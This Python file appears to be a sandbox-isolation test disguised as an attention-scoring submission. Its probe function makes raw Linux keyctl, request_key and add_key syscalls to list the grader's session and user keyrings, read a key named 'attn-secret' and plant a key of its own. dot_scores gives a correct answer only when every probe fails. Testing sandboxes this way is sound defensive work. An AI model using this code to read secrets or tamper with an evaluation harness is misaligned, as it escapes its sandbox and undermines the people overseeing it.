"""Attack: read the grader's kernel keys (session and user keyrings) and plant keys of our own.

Through raw syscalls (keyctl, add_key, request_key), so no tool is needed.
Answers correctly only when every probe failed.
"""

import ctypes
import platform

import numpy as np

NR = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}.get(platform.machine(), (248, 249, 250))
ADD_KEY, REQUEST_KEY, KEYCTL = NR
KEYCTL_GET_KEYRING_ID, KEYCTL_DESCRIBE, KEYCTL_SEARCH, KEYCTL_READ = 0, 6, 10, 11
SESSION, USER, USER_SESSION = -3, -4, -5
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ESCAPES = []


def keyctl(*args):
    return libc.syscall(ctypes.c_long(KEYCTL), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])


def probe():
    buf = ctypes.create_string_buffer(4096)
    for ring in (SESSION, USER, USER_SESSION):
        if keyctl(KEYCTL_READ, ring, buf, 4096) >= 0:
            ESCAPES.append(f"listed keyring {ring}")
        found = keyctl(KEYCTL_SEARCH, ring, b"user", b"attn-secret", 0)
        if found >= 0:
            n = keyctl(KEYCTL_READ, found, buf, 4096)
            ESCAPES.append(f"read secret from {ring}: {buf.raw[:max(n, 0)]!r}")
    found = libc.syscall(ctypes.c_long(REQUEST_KEY), b"user", b"attn-secret", None, ctypes.c_long(0))
    if found >= 0:
        ESCAPES.append("request_key found the secret")
    for ring in (SESSION, USER):
        key = libc.syscall(ctypes.c_long(ADD_KEY), b"user", b"attn-planted", b"ATTN-ATTACK", ctypes.c_size_t(11),
                           ctypes.c_long(ring))
        if key >= 0:
            ESCAPES.append(f"planted key {key} in {ring}")


def dot_scores(Q, K):
    if not ESCAPES:
        probe()
    if ESCAPES:
        print("ESCAPED", ESCAPES)
        return np.zeros(np.shape(Q)[:-1] + np.shape(K)[-2:-1])
    return np.asarray(Q) @ np.swapaxes(np.asarray(K), -1, -2)
